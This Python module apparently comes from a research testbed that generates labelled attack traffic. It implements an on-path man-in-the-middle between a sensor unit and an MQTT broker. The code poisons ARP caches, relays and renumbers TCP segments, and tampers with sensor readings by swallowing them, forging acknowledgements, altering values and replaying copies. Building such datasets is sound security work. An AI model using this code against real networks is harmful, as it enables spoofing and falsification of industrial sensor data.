"""Between one unit and the broker: getting on the path, relaying, editing the stream, leaving.

The module is longer than most because it is one state machine: every method reads what the others leave in
the connections. What stands alone is beside it: caches, segments, translation, frames.
"""

from collections.abc import Callable

from coldaisle_contracts.addressing import BROKER, INJECTOR, Host
from coldaisle_contracts.errors import ColdaisleError
from coldaisle_contracts.plan import Episode
from coldaisle_contracts.taxonomy import Role
from coldaisle_contracts.topics import SENSORS
from coldaisle_injector import frames, mqtt
from coldaisle_injector.caches import Caches
from coldaisle_injector.catalogue import Deliver, Edit, OnPath, Pass, Reading, Swallow
from coldaisle_injector.connection import Connection, Half
from coldaisle_injector.notes import Notes
from coldaisle_injector.segments import (
    ACK,
    FIN,
    RST,
    SYN,
    Arp,
    Segment,
    is_sound,
    readdress,
    renew,
    translate,
)
from coldaisle_injector.wire import Wire

PATIENCE_NS = 15_000_000_000
"""A claim, a copy or a FIN nobody answers for so long ends the run, ns."""
_MASK = 0xFFFFFFFF
_IN_FLIGHT = 16
"""More segments than TCP keeps unacknowledged here."""


class OffPathError(ColdaisleError):
    """The attacker is not where the plan needs it."""

    exit_code = 3

    def __init__(self, episode: str, unit: str, what: str) -> None:
        super().__init__(
            f"episode {episode}: the attacker {what} between {unit} and the broker; the run is void"
        )


class Path:
    """The path between a unit and the broker, and what the attacker does on it.

    Args:
        unit: the victim.
        wire: the attacker's socket.
        notes: its journal; names the episode that holds the path, also after the end of it while connections
            need translation.
        slot_of: the plan's slot at a virtual time, ns.
    """

    def __init__(self, unit: Host, wire: Wire, notes: Notes, slot_of: Callable[[int], int]) -> None:
        self.unit, self._wire, self.notes, self._slot_of = unit, wire, notes, slot_of
        self._times = notes.times
        self._caches = Caches(unit, wire, notes)
        self._attack: OnPath | None = None
        self._acting = self._leaving = False
        self._confirmed = self._up = self._down = False
        self._since_ns = 0
        self._connections: dict[int, Connection] = {}

    # -- phases -------------------------------------------------------------------------------------------------

    def approach(self, episode: Episode, attack: OnPath) -> None:
        """Claim the unit's place at the broker and the broker's at the unit."""
        self.notes.start(episode)
        self._attack = attack
        self._acting = self._leaving = self._confirmed = self._up = self._down = False
        if not self._caches.taken:
            self._connections.clear()  # kept until now for stragglers
        self._since_ns = self._times.wall_ns()
        self.notes.phase("approach")
        self._caches.take()

    def begin(self) -> None:
        """Start to act.

        Raises:
            OffPathError: if no traffic passed in both directions since the approach.
        """
        if not self._confirmed:
            raise self._off_path("saw no traffic pass")
        self._acting = True
        self.notes.phase("begin")

    def leave(self) -> None:
        """Stop acting; restore the caches as soon as no connection needs the attacker any more."""
        self._acting, self._leaving = False, True
        self.notes.phase("end")
        self._restore_if_free()

    def _restore_if_free(self) -> None:
        """Restore both caches unless a connection would break."""
        if self.taken and self._leaving and not any(conn.translated for conn in self._connections.values()):
            self._leaving = False
            self._caches.restore()
            self.notes.phase("off_path")

    @property
    def taken(self) -> bool:
        """Whether the caches of unit and broker are poisoned."""
        return self._caches.taken

    @property
    def settled(self) -> bool:
        """Whether everything sent has been answered and no connection that runs through here is half closed."""
        closing = self.taken and any(conn.closing for conn in self._connections.values())
        return self._answered and not closing

    @property
    def _answered(self) -> bool:
        return not self._caches.unanswered and not any(conn.copies for conn in self._connections.values())

    def insist(self) -> None:
        """Repeat claims nobody answered.

        Raises:
            OffPathError: if there is still no answer after :data:`PATIENCE_NS`.
        """
        if self.settled:
            return
        if self._times.wall_ns() - self._since_ns > PATIENCE_NS:
            raise self._off_path("got no answer")
        self._caches.insist()

    def copy(self, slot: int, sensor: int, number: int) -> None:
        """Deliver a reading again, as the next bytes of its connection.

        Args:
            slot: the reading's slot.
            sensor: its sensor.
            number: which copy it is, from 1.

        Raises:
            OffPathError: if that reading did not pass.
        """
        for port, conn in self._connections.items():  # noqa: B007 - read after the loop
            if conn.sensor == sensor and conn.publish[0] == slot and conn.up.last and conn.down.last:
                break
        else:
            raise self._off_path(f"has no reading of sensor {sensor}, slot {slot} to copy")
        _, data, mid = conn.publish
        conn.copies.append(mid)
        self._since_ns = self._times.wall_ns()
        self._say(conn.up, conn.down, BROKER, data, Role.DUPLICATE, "copy")
        value = next(mqtt.messages(data)).value.decode()
        self.notes.act("copy", Reading(slot, sensor, value), port=port, mid=mid, after=value, copy=number)

    def _off_path(self, what: str) -> OffPathError:
        return OffPathError(self.notes.episode, self.unit.name, what)

    # -- frames that arrive -------------------------------------------------------------------------------------

    def on_arp(self, arp: Arp, frame: bytes) -> None:
        """Take an answer to a claim, or answer a question about the other side."""
        self._caches.on_arp(arp, frame)

    def on_other(self, frame: bytes, *, upward: bool) -> None:
        """Pass on what is not MQTT, such as NTP, unaltered."""
        passed = renew(frame, _macs(BROKER if upward else self.unit))
        self.notes.frame(passed, BROKER, Role.RELAYED, "relay", anomalous=self._reading_is_the_attack)
        self._wire.send(passed)

    def on_segment(self, segment: Segment) -> None:
        """Pass a segment on, edited where the attack says so."""
        upward = segment.source == self.unit.ip
        port = segment.sport if upward else segment.dport
        if segment.flags & SYN and upward and not segment.flags & ACK:
            self._connections[port] = Connection()
        conn = self._connections.setdefault(port, Connection())
        half, other = (conn.up, conn.down) if upward else (conn.down, conn.up)
        fresh = half.see(segment, self._times.wall_ns())
        conn.closed = conn.closed or bool(segment.flags & RST)
        if segment.flags & FIN:
            self._since_ns = self._times.wall_ns()
        if not upward:  # the capture saw it before the attacker did
            self._note_answer(segment, conn)
        if fresh and segment.payload and not (self._leaving and self._answered):
            half.rewritten[segment.seq] = self._edit(port, conn, segment, upward=upward)
            if len(half.rewritten) > _IN_FLIGHT:
                half.rewritten.pop(next(iter(half.rewritten)))
        payload = half.rewritten.get(segment.seq, segment.payload) if segment.payload else b""
        self._pass_on(segment, half, other, payload, upward=upward)
        self._restore_if_free()

    def _note_answer(self, segment: Segment, conn: Connection) -> None:
        """Note a segment of the broker: a consequence where it answers a copy, else relayed."""
        for message in mqtt.messages(segment.payload) if conn.copies else ():
            if message.type == mqtt.PUBACK and message.mid in conn.copies:
                self.notes.frame(segment.frame, BROKER, Role.CONSEQUENCE, "reply", anomalous=True)
                return
        self.notes.frame(segment.frame, BROKER, Role.RELAYED, "relay", anomalous=self._reading_is_the_attack)

    def _pass_on(self, segment: Segment, half: Half, other: Half, payload: bytes, *, upward: bool) -> None:
        """Send the segment on in the other side's numbers, unless nothing of it is left."""
        macs = _macs(BROKER if upward else self.unit)
        seq = half.stream.outward(segment.seq)
        ack = other.stream.inward(segment.ack) if segment.flags & ACK else segment.ack
        swallowed = bool(segment.payload) and not payload
        # An acknowledgement of what the other side never sent says nothing to it.
        pure = not segment.payload and segment.flags == ACK
        hollow = pure and ack == half.acked[1] and segment.ack != half.acked[0]
        half.acked = (segment.ack, ack)
        if swallowed or hollow:
            if upward:
                role = Role.REMOVED if swallowed else Role.CONSEQUENCE
                self.notes.frame(segment.frame, self.unit, role, "swallow", anomalous=True)
            return
        changed = payload != segment.payload
        if changed:
            frame = frames.rewrite(segment, macs, seq, ack, payload)
        elif (seq, ack) != (segment.seq, segment.ack) or not is_sound(segment):
            frame = translate(segment, macs, seq, ack)
        else:
            frame = readdress(segment.frame, *macs)
        self._wire.send(frame)
        if upward and changed:
            self.notes.frame(frame, BROKER, Role.MODIFIED, "alter", anomalous=True)
        elif upward:
            self.notes.frame(frame, BROKER, Role.RELAYED, "relay", anomalous=self._reading_is_the_attack)

    # -- messages in them ---------------------------------------------------------------------------------------

    def _edit(self, port: int, conn: Connection, segment: Segment, *, upward: bool) -> bytes:
        """Return the payload to pass on instead of a new segment's, and note how the stream changes by it."""
        out, at = b"", segment.seq
        half = conn.up if upward else conn.down
        for message in mqtt.messages(segment.payload):
            if upward and message.type == mqtt.PUBLISH:
                data = self._publish(port, conn, message)
            elif not upward and message.type == mqtt.PUBACK and message.mid in conn.copies:
                conn.copies.remove(message.mid)
                self._say(conn.up, conn.down, BROKER, b"", Role.INJECTED, "acknowledge")
                data = b""
            else:
                data = message.data
            half.stream.edit(at, len(message.data), len(data))
            at = (at + len(message.data)) & _MASK
            out += data
        self._up, self._down = self._up or upward, self._down or not upward
        if self._up and self._down and not self._confirmed and self.taken and not self._leaving:
            self._confirmed = True
            self.notes.phase("on_path")
        return out

    def _publish(self, port: int, conn: Connection, message: mqtt.Message) -> bytes:
        """Return what becomes of a reading: its own bytes, others, or none."""
        reading = self._reading(conn, message)
        data = message.data
        edit: Edit = Pass()
        if self._attack and self._acting:
            edit = self._attack.on_publish(reading)
        elif self._attack:
            self._attack.watch(reading)
        match edit:
            case Swallow():
                self.notes.act("swallow", reading, port=port, mid=message.mid)
                self._acknowledge(conn, message.mid)
                return b""
            case Deliver(value) if value != reading.value:
                data = mqtt.with_value(message, value.encode())
                self.notes.act("modify", reading, port=port, mid=message.mid, after=value)
        conn.publish = (reading.slot, data, message.mid)
        return data

    def _acknowledge(self, conn: Connection, mid: int) -> None:
        """Acknowledge a reading to the unit in the broker's place."""
        if conn.down.last is None:
            raise self._off_path("never heard the broker")
        self._say(conn.down, conn.up, self.unit, mqtt.puback(mid), Role.INJECTED, "acknowledge")

    def _reading(self, conn: Connection, message: mqtt.Message) -> Reading:
        """Tell which reading a PUBLISH carries: a unit reports its sensors in order, so the first seen is sensor 1."""
        slot = self._slot_of(self._times.now_ns())
        if not conn.sensor:
            known = {each.sensor for each in self._connections.values() if not each.over}
            conn.sensor = min({*SENSORS} - known, default=len(SENSORS))
        return Reading(slot, conn.sensor, message.value.decode("ascii", "replace"))

    @property
    def _reading_is_the_attack(self) -> bool:
        return self._acting and self._attack is not None and self._attack.labels_relayed

    def _say(self, half: Half, other: Half, target: Host, data: bytes, role: Role, act: str) -> None:
        """Say something in the name of one side of a connection, as the next bytes of its stream."""
        frame = half.speak(other, _macs(target), self._times.wall_ns(), data)
        self.notes.spend()
        self._wire.send(frame)
        self.notes.frame(frame, target, role, act, anomalous=True)


def _macs(target: Host) -> tuple[str, str]:
    return INJECTOR.mac, target.mac
